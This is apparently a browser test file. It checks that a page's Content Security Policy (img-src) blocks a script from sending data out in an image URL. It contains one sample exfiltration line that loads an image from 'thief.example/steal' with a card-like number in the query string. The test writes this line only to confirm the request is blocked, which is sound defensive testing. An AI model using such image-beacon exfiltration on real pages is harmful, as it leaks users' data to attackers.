import { expect, test } from './visitor.ts'

test('a script that runs in a page cannot send what it read away in the address of a picture', async ({
  page,
  announced,
}) => {
  announced.push(/img-src/)
  await page.goto('/')
  const sent: string[] = []
  await page.route('https://thief.example/**', (route) => {
    sent.push(route.request().url())
    return route.abort()
  })
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
        new Image().src = 'https://thief.example/steal?n=4242424242424242'
      }),
  )
  expect(blocked).toBe('img-src')
  expect(sent).toEqual([])
})
